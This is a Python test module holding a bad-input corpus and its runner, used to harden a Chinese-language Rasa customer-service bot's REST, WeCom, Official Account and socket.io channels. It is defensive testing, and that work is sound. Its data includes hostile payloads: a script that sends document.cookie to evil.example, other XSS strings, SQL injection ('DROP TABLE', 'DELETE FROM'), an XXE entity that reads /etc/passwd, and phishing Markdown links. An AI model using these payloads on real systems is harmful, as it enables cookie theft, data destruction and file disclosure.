"""The bad-input corpus of the security issue (issue 6), as data, and its runner.

Every case is one thing a careless client, a confused user or an attacker may
send to the real bot: odd message texts over REST (empty, huge, invisible
characters, lone surrogates, markup, SQL, Markdown, mixed scripts, Rasa's
``/intent`` syntax), broken REST requests, broken callbacks on the WeCom and
Official Account webhooks, and broken socket.io events and origins. Each case
says what is sent and what must come back; :func:`run_case` sends it to a
running bot (``devtools.harness.Bot``) and checks the answer, the time it
took and, for messages, what the tracker stored.

Used by ``tests/e2e/test_bad_input.py`` (``make e2e``) and
``scripts/security_report.py``. Plain HTTP goes through ``http.client`` so
that any body (invalid UTF-8, 20 MiB, none at all) can be sent and a
connection the server closes early is seen as such.

The texts compared with the answers come from the domain (``domain/*.yml``).
Every REST message case uses a sender of its own, so cases neither share a
conversation nor count against each other's rate limit.
"""

from __future__ import annotations

import asyncio
import base64
import functools
import http.client
import json
import os
import re
import socket
import time
import uuid
from contextlib import contextmanager
from dataclasses import dataclass, field
from enum import Enum
from pathlib import Path
from typing import (
    Any,
    Dict,
    Iterator,
    List,
    Mapping,
    Optional,
    Sequence,
    Set,
    Tuple,
    Union,
)
from urllib.parse import urlencode, urlsplit

import socketio  # type: ignore[import-untyped]

from devtools import signed
from devtools.fake_platform import FakePlatform
from devtools.harness import Bot, running_bot
from devtools.project import load_domain
from devtools.wechat_apps import (
    AGENT_ID,
    APP_ID,
    CORP_ID,
    connector_env,
    wechat_crypto,
    wecom_crypto,
)

# A correctness bound against hangs, not a benchmark.
CASE_BOUND_S = 30.0
REQUEST_TIMEOUT_S = 25.0
MAX_MESSAGE_CHARS = 1000
RATE_LIMIT = "20/minute"
RATE_LIMIT_COUNT = 20
ALLOWED_ORIGINS = ("http://127.0.0.1:8080", "http://localhost:8080")
REST_PATH = "/webhooks/rest/webhook"
WEBHOOKS = {
    "wecom": "/webhooks/wecom/webhook",
    "wechat_mp": "/webhooks/wechat_mp/webhook",
}
MP_ACCOUNT = "gh_bad_input"  # the Official Account's own id in its messages
SENDER_MARK = "@SENDER@"
SESSION_MARK = "@SESSION@"
CHUNK_BYTES = 64 * 1024

CATEGORIES = (
    "empty_whitespace",
    "long",
    "emoji",
    "invisible",
    "surrogates_utf8",
    "html_script",
    "sql",
    "markdown",
    "mixed_scripts",
    "slash_command",
    "rest_request",
    "connector",
    "socketio",
)

# --- what is sent ------------------------------------------------------------


@dataclass(frozen=True)
class Say:
    """A well-formed REST request (UTF-8 JSON) carrying this message text."""

    text: str


@dataclass(frozen=True)
class RawRest:
    """Exactly these bytes to the REST webhook.

    ``@SENDER@`` in the body becomes the case's own sender id, padded with
    ``x`` to ``sender_chars`` characters when that is set.
    """

    body: Optional[bytes]
    content_type: Optional[str] = "application/json"
    method: str = "POST"
    sender_chars: Optional[int] = None


@dataclass(frozen=True)
class Huge:
    """A valid REST request whose message makes the body ``size`` bytes long."""

    size: int


@dataclass(frozen=True)
class Callback:
    """A request to a connector webhook: an authentic text message, then broken.

    ``query``: ``signed`` (authentic), ``bad_signature`` (msg_signature of
    zeros), ``stale`` (correctly signed an hour ago) or ``none`` (no query).
    ``body``: None for the authentic encrypted body, else these bytes;
    ``body_size`` > 0 sends an ``<xml>`` document of that many bytes instead.
    """

    query: str = "signed"
    body: Optional[bytes] = None
    body_size: int = 0
    content_type: Optional[str] = "text/xml"
    method: str = "POST"


@dataclass(frozen=True)
class SocketEvent:
    """A ``user_uttered`` event with this data, after a session_request.

    ``@SESSION@`` anywhere in the data becomes the session id the socket asked
    for.
    """

    data: Any


@dataclass(frozen=True)
class SocketConnect:
    """A socket.io connection with this Origin header (None: no header).

    ``polling``: a full session with python-socketio's client (connect, ask
    for a session, say 你好). ``websocket``: the WebSocket upgrade request the
    chat page makes, sent raw (python-engineio's own WebSocket client needs a
    newer aiohttp than the pinned one): 101 means accepted.
    """

    origin: Optional[str]
    transport: str = "polling"


Send = Union[Say, RawRest, Huge, Callback, SocketEvent, SocketConnect]

# --- what must come back -----------------------------------------------------


class Outcome(str, Enum):
    """The kinds of answer a case may expect."""

    REPLY = "200 and a sensible answer"
    EMPTY = "200 and exactly utter_empty_message, nothing stored"
    TRUNCATED = "200, utter_message_truncated first, then an answer"
    ERROR = "4xx with a JSON error naming the problem"
    TOO_LARGE = "413, or the connection closed with no 5xx"
    STATUS = "this HTTP status"
    BAD_MESSAGE = "bot_uttered utter_bad_message, nothing stored"
    REFUSED = "socket.io connection refused"
    CONNECTS = "socket.io connection works and is answered"


@dataclass(frozen=True)
class Injected:
    """Rasa command syntax a user typed: none of it may take effect.

    The message must reach NLU as words: Rasa's own parse of the syntax has a
    one-entry intent ranking and entities from its RegexMessageHandler. NLU
    may still read the words as the same intent when it knows that intent
    (``inform{"sesame_score": 900}`` is plausibly an inform, ``nlu_fallback``
    is what gibberish gets), so the intent itself is compared only for
    intents NLU cannot predict (``restart``, ``session_start``, ``handoff``);
    the slots, entities and events always.
    """

    intent: str
    slots: Tuple[str, ...] = ()


@dataclass(frozen=True)
class Expect:
    """The expected outcome of a case, and what else to check."""

    outcome: Outcome
    statuses: Tuple[int, ...] = (200,)
    # the refusal names the problem: one of these words (any case) in its text
    mentions: Tuple[str, ...] = ()
    ack: Optional[str] = None  # exact body of a connector's acknowledgement
    stored: Optional[str] = None  # the user text the tracker must hold
    hidden: Tuple[str, ...] = ()  # characters the stored text must not hold
    no_echo: Tuple[str, ...] = ()  # what no bot message may repeat
    injected: Optional[Injected] = None
    intents: Tuple[str, ...] = ()  # the stored intent is one of these


@dataclass(frozen=True)
class Case:
    """One bad input: where it goes, what is sent, what must come back."""

    id: str
    category: str
    transport: str  # rest | wecom | wechat_mp | socketio
    send: Send
    expect: Expect


@dataclass
class CaseResult:
    """What happened to one case."""

    id: str
    category: str
    transport: str
    status: Optional[int]  # HTTP status; None for socket.io or a closed connection
    elapsed_s: float
    passed: bool
    detail: str


# --- building the corpus -----------------------------------------------------

REPLY = Expect(Outcome.REPLY)
EMPTY = Expect(Outcome.EMPTY)
JSON_WORDS = ("json",)
OBJECT_WORDS = ("object",)
SENDER_WORDS = ("sender",)
MESSAGE_WORDS = ("message",)
TYPE_WORDS = ("content-type", "content type", "media type")
UTF8_WORDS = ("utf-8", "utf8", "encoding")
SIZE_WORDS = ("large", "size", "bytes", "limit")


def say(case_id: str, category: str, text: str, expect: Expect = REPLY) -> Case:
    """A message-text case over REST."""
    return Case(case_id, category, "rest", Say(text), expect)


def error(*mentions: str, status: int = 400) -> Expect:
    """A 4xx with a JSON error that names one of ``mentions``."""
    return Expect(Outcome.ERROR, statuses=(status,), mentions=mentions)


def body(message_json: str, sender_json: str = f'"{SENDER_MARK}"') -> bytes:
    """A REST body with these JSON literals for sender and message (UTF-8)."""
    return f'{{"sender": {sender_json}, "message": {message_json}}}'.encode()


def raw(
    case_id: str,
    category: str,
    content: Optional[bytes],
    expect: Expect,
    content_type: Optional[str] = "application/json",
    **kwargs: Any,
) -> Case:
    """A REST case sent as exactly these bytes."""
    return Case(
        case_id, category, "rest", RawRest(content, content_type, **kwargs), expect
    )


def nested(depth: int) -> bytes:
    """A request whose metadata is ``depth`` nested JSON arrays."""
    deep = "[" * depth + "]" * depth
    return (
        f'{{"sender": "{SENDER_MARK}", "message": "你好", "metadata": {deep}}}'
    ).encode()


def long_text(chars: int, unit: str = "我的支付宝里找不到借呗了，") -> str:
    """Chinese text of exactly ``chars`` characters."""
    return (unit * (chars // len(unit) + 1))[:chars]


def truncated(text: str) -> Expect:
    """The notice first, then an answer; the first 1000 characters stored."""
    return Expect(Outcome.TRUNCATED, stored=text[:MAX_MESSAGE_CHARS])


def stored_as_sent(text: str, *no_echo: str) -> Expect:
    """A sensible answer; the text stored unchanged; nothing of it echoed."""
    return Expect(Outcome.REPLY, stored=text, no_echo=no_echo)


def injected(intent: str, *slots: str) -> Expect:
    """A sensible answer and no effect of the typed command."""
    return Expect(Outcome.REPLY, injected=Injected(intent, slots))


def http_status(
    *statuses: int, mentions: Tuple[str, ...] = (), ack: Optional[str] = None
) -> Expect:
    """This HTTP status (connectors), naming the problem or acknowledging."""
    return Expect(Outcome.STATUS, statuses=statuses, mentions=mentions, ack=ack)


def message_cases() -> List[Case]:
    """Odd message texts in well-formed REST requests."""
    ten_k = long_text(10_000)
    just_over = long_text(MAX_MESSAGE_CHARS + 1)
    at_limit = long_text(MAX_MESSAGE_CHARS)
    latin = "a" * 12_000
    lines = "借呗\n" * 20_000
    emoji_flood = "😭" * 10_000
    zero_width = "借\u200b呗\u200b不\u200b见\u200b了"
    script = "<script>alert(1)</script>"
    img = '<img src=x onerror="alert(document.cookie)">'
    drop = "'; DROP TABLE events;--"
    return [
        # empty and whitespace only
        say("empty_string", "empty_whitespace", "", EMPTY),
        say("single_space", "empty_whitespace", " ", EMPTY),
        say("spaces_tabs_newlines", "empty_whitespace", " \t\n  \n\t ", EMPTY),
        say("ideographic_spaces", "empty_whitespace", "\u3000\u3000\u3000", EMPTY),
        say("nbsp_and_crlf", "empty_whitespace", "\u00a0\r\n\u00a0", EMPTY),
        # long
        say("ten_thousand_chinese", "long", ten_k, truncated(ten_k)),
        say("just_over_the_limit", "long", just_over, truncated(just_over)),
        say("exactly_the_limit", "long", at_limit,
            Expect(Outcome.REPLY, stored=at_limit)),
        say("twelve_thousand_latin", "long", latin, truncated(latin)),
        say("sixty_thousand_lines", "long", lines, truncated(lines)),
        say("ten_thousand_emoji", "long", emoji_flood, truncated(emoji_flood)),
        # emoji only
        say("crying_faces", "emoji", "😭😭😭"),
        say("thumbs_up", "emoji", "👍"),
        say("skin_tone_modifier", "emoji", "🙏🏻🙏🏿"),
        say("zwj_family", "emoji", "👨\u200d👩\u200d👧"),
        say("flag", "emoji", "🇨🇳"),
        say("variation_selector", "emoji", "❤️‍🔥❓"),
        # control characters and invisible ones
        say("zero_width_only", "invisible", "\u200b\u200c\u200d\u2060\ufeff", EMPTY),
        say("nul_only", "invisible", "\x00", EMPTY),
        say("controls_only", "invisible", "\x07\x08\x1b\x7f\x85", EMPTY),
        say("bidi_marks_only", "invisible", "\u202e\u2066\u2069\u200e\u200f", EMPTY),
        say("zero_width_inside_words", "invisible", zero_width,
            Expect(Outcome.REPLY, stored="借呗不见了")),
        say("nul_inside_words", "invisible", "借呗\x00不见了",
            Expect(Outcome.REPLY, stored="借呗不见了")),
        say("bidi_override", "invisible", "\u202e了见不呗借\u202c",
            Expect(Outcome.REPLY, stored="了见不呗借")),
        say("ansi_escape", "invisible", "\x1b[31m借呗不见了\x1b[0m",
            Expect(Outcome.REPLY, hidden=("\x1b",))),
        say("soft_hyphen_and_bom", "invisible", "\ufeff借\u00ad呗入口没了",
            Expect(Outcome.REPLY, stored="借呗入口没了")),
        # HTML and script
        say("script_tag", "html_script", script, stored_as_sent(script, "<script")),
        say("img_onerror", "html_script", img, stored_as_sent(img, "onerror")),
        say("script_after_question", "html_script",
            "借呗不见了<script>fetch('//evil.example/'+document.cookie)</script>",
            Expect(Outcome.REPLY, no_echo=("<script", "evil.example"))),
        say("iframe_javascript_url", "html_script",
            "<iframe src=javascript:alert(1)></iframe>",
            Expect(Outcome.REPLY, no_echo=("<iframe", "javascript:"))),
        say("svg_onload_entities", "html_script",
            "&lt;b&gt;借呗&lt;/b&gt;<svg/onload=alert(1)>",
            Expect(Outcome.REPLY, no_echo=("<svg", "onload"))),
        # SQL-looking text
        say("drop_table_events", "sql", drop, stored_as_sent(drop, "DROP TABLE")),
        say("or_1_equals_1", "sql", "1 OR 1=1", stored_as_sent("1 OR 1=1")),
        say("quoted_or", "sql", '借呗" OR ""="', stored_as_sent('借呗" OR ""="')),
        say("comment_after_quote", "sql", "admin'--", stored_as_sent("admin'--")),
        say("stacked_select", "sql", "1; SELECT * FROM accounts WHERE '1'='1",
            stored_as_sent("1; SELECT * FROM accounts WHERE '1'='1")),
        say("delete_cases", "sql", "'); DELETE FROM cases; --",
            stored_as_sent("'); DELETE FROM cases; --", "DELETE FROM")),
        # Markdown
        say("phishing_link", "markdown", "[点这里提额](http://evil.example/phish)",
            Expect(Outcome.REPLY, no_echo=("evil.example",))),
        say("remote_image", "markdown", "![x](http://evil.example/x.png)",
            Expect(Outcome.REPLY, no_echo=("evil.example",))),
        say("javascript_link", "markdown", "[借呗](javascript:alert(1))",
            Expect(Outcome.REPLY, no_echo=("javascript:",))),
        say("emphasis_code_quote", "markdown", "**借呗** 不见了 `rm -rf` > 引用"),
        say("autolink_and_heading", "markdown", "# 借呗\n<http://evil.example>",
            Expect(Outcome.REPLY, no_echo=("evil.example",))),
        # mixed scripts
        say("traditional", "mixed_scripts", "借唄不見了",
            Expect(Outcome.REPLY, intents=("jiebei_entry_missing",))),
        say("full_width_latin", "mixed_scripts", "ｊｉｅｂｅｉ不见了",
            Expect(Outcome.REPLY, intents=("jiebei_entry_missing",))),
        say("pinyin", "mixed_scripts", "jiebei bu jian le"),
        say("english", "mixed_scripts", "where is jiebei"),
        say("camel_pinyin_and_chinese", "mixed_scripts", "JieBei 咋没了"),
        say("japanese", "mixed_scripts", "借呗が見つからない"),
        say("cyrillic_and_chinese", "mixed_scripts", "Где 借呗?"),
        # Rasa's command syntax typed by a user
        say("restart", "slash_command", "/restart", injected("restart")),
        say("restart_after_spaces", "slash_command", "   /restart",
            injected("restart")),
        say("restart_behind_zero_width", "slash_command", "\u200b/restart",
            injected("restart")),
        say("session_start", "slash_command", "/session_start",
            injected("session_start")),
        say("inform_sesame_score", "slash_command", '/inform{"sesame_score": 900}',
            injected("inform", "sesame_score")),
        say("inform_two_slots", "slash_command",
            '/inform{"account_status": "normal", "bank_cards": 2}',
            injected("inform", "account_status", "bank_cards")),
        say("affirm_with_entity", "slash_command", '/affirm{"x":1}',
            injected("affirm", "x")),
        say("nlu_fallback", "slash_command", "/nlu_fallback",
            injected("nlu_fallback")),
        say("handoff", "slash_command", "/handoff", injected("handoff")),
        say("greet_at_confidence", "slash_command", "/greet@0.99",
            injected("greet")),
    ]  # fmt: skip


def surrogate_cases() -> List[Case]:
    """Lone surrogate escapes in JSON and bytes that are not UTF-8."""
    category = "surrogates_utf8"
    invalid = error(*UTF8_WORDS)
    return [
        raw("lone_high_surrogate", category, body('"\\ud800借呗不见了"'),
            Expect(Outcome.REPLY, stored="\ufffd借呗不见了")),
        raw("lone_low_surrogate", category, body('"借呗\\udc00不见了"'),
            Expect(Outcome.REPLY, stored="借呗\ufffd不见了")),
        raw("reversed_pair", category, body('"\\ude00\\ud83d借呗"'),
            Expect(Outcome.REPLY, stored="\ufffd\ufffd借呗")),
        raw("surrogate_only", category, body('"\\udbff"'),
            Expect(Outcome.REPLY, stored="\ufffd")),
        raw("surrogate_in_sender", category,
            body('"你好"', sender_json=f'"{SENDER_MARK}\\ud800"'),
            error(*SENDER_WORDS)),
        raw("invalid_bytes_ff_fe", category,
            b'{"sender": "' + SENDER_MARK.encode() + b'", "message": "\xff\xfe"}',
            invalid),
        raw("overlong_slash", category,
            b'{"sender": "' + SENDER_MARK.encode() + b'", "message": "\xc0\xaf"}',
            invalid),
        raw("truncated_multibyte", category,
            b'{"sender": "' + SENDER_MARK.encode() + b'", "message": "\xe5\x80"}',
            invalid),
        raw("encoded_surrogate_bytes", category,
            b'{"sender": "' + SENDER_MARK.encode() + b'", "message": "\xed\xa0\x80"}',
            invalid),
        raw("gbk_declared_utf8", category,
            b'{"sender": "' + SENDER_MARK.encode() + b'", "message": "'
            + "借呗不见了".encode("gbk") + b'"}',
            invalid, content_type="application/json; charset=utf-8"),
    ]  # fmt: skip


def rest_request_cases() -> List[Case]:
    """Broken REST requests: JSON, content type, field types, size, method."""
    category = "rest_request"
    hi = '"你好"'
    return [
        raw("malformed_json", category, b'{"sender": "' + SENDER_MARK.encode()
            + b'", "message": "hi"', error(*JSON_WORDS)),
        raw("form_encoded_as_json", category, b"sender=x&message=hi",
            error(*JSON_WORDS)),
        raw("trailing_garbage", category, body(hi) + b" extra", error(*JSON_WORDS)),
        raw("single_quotes", category, b"{'sender': 'x', 'message': 'hi'}",
            error(*JSON_WORDS)),
        raw("empty_body", category, b"", error(*JSON_WORDS)),
        raw("json_array", category, b'[{"sender": "x", "message": "hi"}]',
            error(*OBJECT_WORDS)),
        raw("json_string", category, b'"hi"', error(*OBJECT_WORDS)),
        raw("json_null", category, b"null", error(*OBJECT_WORDS)),
        raw("json_number", category, b"42", error(*OBJECT_WORDS)),
        raw("deeply_nested_metadata", category, nested(100_000),
            error(*JSON_WORDS)),
        raw("text_plain", category, body(hi), error(*TYPE_WORDS, status=415),
            content_type="text/plain"),
        raw("form_content_type", category, b"sender=x&message=hi",
            error(*TYPE_WORDS, status=415),
            content_type="application/x-www-form-urlencoded"),
        raw("no_content_type", category, body(hi), error(*TYPE_WORDS, status=415),
            content_type=None),
        raw("multipart", category, body(hi), error(*TYPE_WORDS, status=415),
            content_type="multipart/form-data; boundary=x"),
        raw("xml_content_type", category, body(hi), error(*TYPE_WORDS, status=415),
            content_type="text/xml"),
        raw("charset_parameter_is_fine", category, body(hi), REPLY,
            content_type="application/json; charset=UTF-8"),
        raw("sender_missing", category, b'{"message": "hi"}', error(*SENDER_WORDS)),
        raw("sender_number", category, body(hi, sender_json="123"),
            error(*SENDER_WORDS)),
        raw("sender_null", category, body(hi, sender_json="null"),
            error(*SENDER_WORDS)),
        raw("sender_object", category, body(hi, sender_json='{"id": 1}'),
            error(*SENDER_WORDS)),
        raw("sender_empty", category, body(hi, sender_json='""'),
            error(*SENDER_WORDS)),
        raw("sender_129_chars", category, body(hi), error(*SENDER_WORDS),
            sender_chars=129),
        raw("sender_128_chars", category, body(hi), REPLY, sender_chars=128),
        raw("message_missing", category,
            f'{{"sender": "{SENDER_MARK}"}}'.encode(), error(*MESSAGE_WORDS)),
        raw("message_number", category, body("42"), error(*MESSAGE_WORDS)),
        raw("message_null", category, body("null"), error(*MESSAGE_WORDS)),
        raw("message_list", category, body('["借呗"]'), error(*MESSAGE_WORDS)),
        raw("message_object", category, body('{"text": "借呗"}'),
            error(*MESSAGE_WORDS)),
        raw("message_true", category, body("true"), error(*MESSAGE_WORDS)),
        raw("message_nan", category, body("NaN"),
            error(*MESSAGE_WORDS, *JSON_WORDS)),
        raw("metadata_not_an_object", category,
            f'{{"sender": "{SENDER_MARK}", "message": "你好", "metadata": "x"}}'
            .encode(), REPLY),
        raw("get_instead_of_post", category, None,
            Expect(Outcome.STATUS, statuses=(405,)), content_type=None,
            method="GET"),
        Case("body_300_kib", category, "rest", Huge(300 * 1024),
             error(*SIZE_WORDS, status=413)),
        Case("body_2_mib", category, "rest", Huge(2 * 1024 * 1024),
             Expect(Outcome.TOO_LARGE)),
        Case("body_20_mib", category, "rest", Huge(20 * 1024 * 1024),
             Expect(Outcome.TOO_LARGE)),
    ]  # fmt: skip


def connector_cases() -> List[Case]:
    """Broken callbacks on both connector webhooks (configured, so never 503)."""
    cases: List[Case] = []
    for channel, ack in (("wecom", ""), ("wechat_mp", "success")):
        cases += [
            Case(f"{channel}_malformed_xml", "connector", channel,
                 Callback(body=b"<xml><Encrypt>"),
                 http_status(400, mentions=("malformed xml",))),
            Case(f"{channel}_wrong_signature", "connector", channel,
                 Callback(query="bad_signature"),
                 http_status(403, mentions=("signature",))),
            Case(f"{channel}_stale_timestamp", "connector", channel,
                 Callback(query="stale"), http_status(403)),
            # refused by our XML reader (400) or Sanic's limit (413)
            Case(f"{channel}_body_100_kb", "connector", channel,
                 Callback(body_size=100_000),
                 http_status(400, 413, mentions=("too large", "exceeds", "size"))),
            Case(f"{channel}_body_2_mib", "connector", channel,
                 Callback(body_size=2 * 1024 * 1024), Expect(Outcome.TOO_LARGE)),
            Case(f"{channel}_doctype_entity", "connector", channel,
                 Callback(body=b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY e '
                          b'SYSTEM "file:///etc/passwd">]><xml><Encrypt>&e;'
                          b"</Encrypt></xml>"),
                 http_status(400, mentions=("doctype",))),
            Case(f"{channel}_json_body", "connector", channel,
                 Callback(body=b'{"Encrypt": "x"}', content_type="application/json"),
                 http_status(400, mentions=("malformed xml",))),
            # authentic content is authentic whatever the header says
            Case(f"{channel}_wrong_content_type", "connector", channel,
                 Callback(content_type="application/json"), http_status(200, ack=ack)),
            Case(f"{channel}_empty_body", "connector", channel,
                 Callback(body=b""), http_status(400, mentions=("malformed xml",))),
            Case(f"{channel}_get_without_params", "connector", channel,
                 Callback(query="none", content_type=None, method="GET"),
                 http_status(400, mentions=("missing",))),
        ]  # fmt: skip
    return cases


def socketio_cases() -> List[Case]:
    """Events the socket.io channel cannot read, and foreign origins."""
    bad = Expect(Outcome.BAD_MESSAGE)
    refused = Expect(Outcome.REFUSED)
    connects = Expect(Outcome.CONNECTS)
    return [
        Case("data_is_a_string", "socketio", "socketio", SocketEvent("借呗不见了"), bad),
        Case("data_is_a_list", "socketio", "socketio",
             SocketEvent(["借呗不见了", SESSION_MARK]), bad),
        Case("data_is_a_number", "socketio", "socketio", SocketEvent(42), bad),
        Case("data_is_missing", "socketio", "socketio", SocketEvent(None), bad),
        Case("no_session_id", "socketio", "socketio",
             SocketEvent({"message": "借呗不见了"}), bad),
        Case("empty_session_id", "socketio", "socketio",
             SocketEvent({"message": "借呗不见了", "session_id": ""}), bad),
        Case("message_is_a_number", "socketio", "socketio",
             SocketEvent({"message": 123, "session_id": SESSION_MARK}), bad),
        Case("message_is_an_object", "socketio", "socketio",
             SocketEvent({"message": {"text": "借呗"}, "session_id": SESSION_MARK}),
             bad),
        Case("message_is_null", "socketio", "socketio",
             SocketEvent({"message": None, "session_id": SESSION_MARK}), bad),
        Case("foreign_origin", "socketio", "socketio",
             SocketConnect("http://evil.example"), refused),
        Case("lookalike_origin", "socketio", "socketio",
             SocketConnect("http://127.0.0.1:8080.evil.example"), refused),
        Case("null_origin", "socketio", "socketio", SocketConnect("null"), refused),
        Case("allowed_origin", "socketio", "socketio",
             SocketConnect(ALLOWED_ORIGINS[0]), connects),
        Case("no_origin", "socketio", "socketio", SocketConnect(None), connects),
        Case("websocket_foreign_origin", "socketio", "socketio",
             SocketConnect("https://evil.example", "websocket"), refused),
        Case("websocket_allowed_origin", "socketio", "socketio",
             SocketConnect(ALLOWED_ORIGINS[1], "websocket"), connects),
        Case("websocket_no_origin", "socketio", "socketio",
             SocketConnect(None, "websocket"), connects),
    ]  # fmt: skip


def corpus() -> List[Case]:
    """Every case, in the order they run."""
    return [
        *message_cases(),
        *surrogate_cases(),
        *rest_request_cases(),
        *connector_cases(),
        *socketio_cases(),
    ]


# --- the bot they run against ------------------------------------------------


def bad_input_env(platform_base: str, platform: FakePlatform) -> Dict[str, str]:
    """Both connectors configured against the fake platform; the limits pinned."""
    return {
        **connector_env(platform_base, platform.corp_secret, platform.app_secret),
        # what the corpus and the rate-limit checks assume, whatever the
        # caller's environment says
        "RATE_LIMIT": RATE_LIMIT,
        "MAX_MESSAGE_CHARS": str(MAX_MESSAGE_CHARS),
        "ALLOW_INTENT_SYNTAX": "",
        "WEB_ALLOWED_ORIGINS": ",".join(ALLOWED_ORIGINS),
    }


@contextmanager
def bad_input_bot(workdir: Path) -> Iterator[Bot]:
    """The real bot with both connectors configured, the fake platform API behind."""
    platform = FakePlatform(corp_id=CORP_ID, app_id=APP_ID)
    with platform.in_thread() as base:
        with running_bot(workdir, extra_env=bad_input_env(base, platform)) as bot:
            yield bot


# --- the texts the answers are compared with ---------------------------------


@dataclass(frozen=True)
class Texts:
    """The domain texts of the answers the guard gives instead of the bot."""

    empty: str
    truncated: str
    rate_limited: str
    bad_message: str
    trouble: str
    pii_warning: str
    secret_warning: str


@functools.lru_cache(maxsize=1)
def texts() -> Texts:
    """Read once from domain/*.yml."""
    responses = load_domain()["responses"]

    def first(name: str) -> str:
        return str(responses[name][0]["text"])

    return Texts(
        empty=first("utter_empty_message"),
        truncated=first("utter_message_truncated"),
        rate_limited=first("utter_rate_limited"),
        bad_message=first("utter_bad_message"),
        trouble=first("utter_service_trouble"),
        pii_warning=first("utter_pii_warning"),
        secret_warning=first("utter_secret_warning"),
    )


def nlu_intents() -> Set[str]:
    """The intents NLU can predict: the domain's, and the fallback."""
    names = {
        str(next(iter(entry))) if isinstance(entry, dict) else str(entry)
        for entry in load_domain()["intents"]
    }
    return names | {"nlu_fallback"}


# --- HTTP --------------------------------------------------------------------


@dataclass
class HttpAnswer:
    """What came back; ``status`` None when the server closed without answering."""

    status: Optional[int]
    body: bytes = b""
    content_type: str = ""
    closed_while_sending: bool = False

    def json(self) -> Any:
        """The body as JSON, or None when it is not JSON."""
        try:
            return json.loads(self.body.decode("utf-8"))
        except ValueError:
            return None


def exchange(
    url: str,
    method: str = "POST",
    content: Optional[bytes] = None,
    content_type: Optional[str] = None,
    timeout: float = REQUEST_TIMEOUT_S,
) -> HttpAnswer:
    """One request with any body; a server that hangs up early is not an error."""
    parts = urlsplit(url)
    target = parts.path + (f"?{parts.query}" if parts.query else "")
    connection = http.client.HTTPConnection(
        parts.hostname or "127.0.0.1", parts.port, timeout=timeout
    )
    try:
        connection.putrequest(method, target, skip_accept_encoding=True)
        if content_type is not None:
            connection.putheader("Content-Type", content_type)
        if content is not None:
            connection.putheader("Content-Length", str(len(content)))
        connection.putheader("Connection", "close")
        connection.endheaders()
        closed = False
        try:
            for start in range(0, len(content or b""), CHUNK_BYTES):
                connection.send((content or b"")[start : start + CHUNK_BYTES])
        except (BrokenPipeError, ConnectionResetError):
            closed = True  # the server answered (413) and hung up mid-body
        try:
            response = connection.getresponse()
            data = response.read()
        except (ConnectionError, http.client.HTTPException):
            return HttpAnswer(None, closed_while_sending=True)
        return HttpAnswer(
            response.status, data, response.getheader("Content-Type") or "", closed
        )
    finally:
        connection.close()


# --- checking ----------------------------------------------------------------


class Failed(Exception):
    """A case's answer is not what it expects."""


@dataclass
class Trace:
    """What a case saw on the wire, kept also when a check then fails."""

    status: Optional[int] = None


def check(condition: bool, message: str) -> None:
    """Fail the case with ``message`` unless ``condition`` holds."""
    if not condition:
        raise Failed(message)


def reply_texts(answer: HttpAnswer) -> List[str]:
    """The texts of a REST answer (200, a JSON list of bot messages)."""
    check(answer.status == 200, f"HTTP {answer.status}: {answer.body[:300]!r}")
    messages = answer.json()
    check(isinstance(messages, list), f"not a JSON list: {answer.body[:300]!r}")
    check(bool(messages), "an empty list: the message went unanswered")
    check(all(isinstance(m, dict) for m in messages), f"not messages: {messages!r}")
    return [str(m.get("text") or "") for m in messages]


def check_sensible(said: Sequence[str]) -> None:
    """At least one text, none of them the apology or a guard refusal."""
    known = texts()
    check(any(t.strip() for t in said), f"no text in {said!r}")
    check(known.trouble not in said, "the reply guard apologised (service trouble)")
    refusals = {known.empty, known.rate_limited, known.bad_message}
    check(not refusals & set(said), f"a refusal instead of an answer: {said!r}")


def user_events(tracker: Mapping[str, Any]) -> List[Dict[str, Any]]:
    """The user events of a tracker, oldest first."""
    return [e for e in tracker.get("events", []) if e.get("event") == "user"]


def check_tracker(bot: Bot, sender: str, expect: Expect) -> str:
    """What the tracker stored for a processed message; returns its intent."""
    tracker = bot.tracker(sender)
    stored = user_events(tracker)
    check(len(stored) == 1, f"{len(stored)} user events stored, expected 1")
    event = stored[0]
    text = str(event.get("text") or "")
    parse = event.get("parse_data") or {}
    intent = str((parse.get("intent") or {}).get("name"))
    if expect.stored is not None:
        check(text == expect.stored, f"stored {text[:80]!r}, expected "
              f"{expect.stored[:80]!r} ({len(text)} vs {len(expect.stored)} chars)")  # fmt: skip
    for char in expect.hidden:
        check(char not in text, f"{char!r} stored in {text[:80]!r}")
    if expect.intents:
        check(intent in expect.intents, f"intent {intent}, expected {expect.intents}")
    if expect.injected is not None:
        typed = expect.injected
        ranking = parse.get("intent_ranking") or []
        check(len(ranking) > 1, f"parsed as Rasa's command syntax: {parse!r:.200}")
        if typed.intent not in nlu_intents():
            check(intent != typed.intent, f"the typed intent {intent} was taken")
        entities = parse.get("entities") or []
        extractors = {str(e.get("extractor")) for e in entities}
        check("RegexMessageHandler" not in extractors, f"typed entities: {entities}")
        names = {str(e.get("entity")) for e in entities}
        check(not names & set(typed.slots), f"typed entities taken: {names}")
        slots = tracker.get("slots") or {}
        for slot in typed.slots:
            check(slots.get(slot) is None, f"slot {slot} set to {slots.get(slot)!r}")
        kinds = [e.get("event") for e in tracker.get("events", [])]
        check("restart" not in kinds, "a restart event was caused")
        check(kinds.count("session_started") == 1,
              f"{kinds.count('session_started')} session_started events")  # fmt: skip
        check(not tracker.get("paused"), "the conversation was paused (handoff)")
    return intent


def check_error(answer: HttpAnswer, expect: Expect) -> str:
    """A 4xx whose body is exactly ``{"error": "<one English sentence>"}``."""
    check(answer.status in expect.statuses,
          f"HTTP {answer.status}, expected {expect.statuses}: {answer.body[:200]!r}")  # fmt: skip
    check("application/json" in answer.content_type.lower(),
          f"Content-Type {answer.content_type!r}, not JSON")  # fmt: skip
    payload = answer.json()
    check(isinstance(payload, dict) and set(payload) == {"error"},
          f"not a JSON error object: {answer.body[:200]!r}")  # fmt: skip
    message = payload["error"]
    check(isinstance(message, str) and 0 < len(message) <= 200, "no error sentence")
    check(
        message.isascii() and message.isprintable(), f"not plain English: {message!r}"
    )
    if expect.mentions:
        check(any(word in message.lower() for word in expect.mentions),
              f"{message!r} names none of {expect.mentions}")  # fmt: skip
    return message


def check_too_large(answer: HttpAnswer) -> str:
    """413 (our JSON or Sanic's text), or a closed connection and no 5xx."""
    if answer.status is None:
        return "connection closed by the server, no answer"
    check(answer.status == 413, f"HTTP {answer.status}, expected 413")
    early = " (hung up mid-body)" if answer.closed_while_sending else ""
    return f"413{early} {answer.body[:80]!r}"


# --- running REST and connector cases ----------------------------------------


def fresh_id(case: Case) -> str:
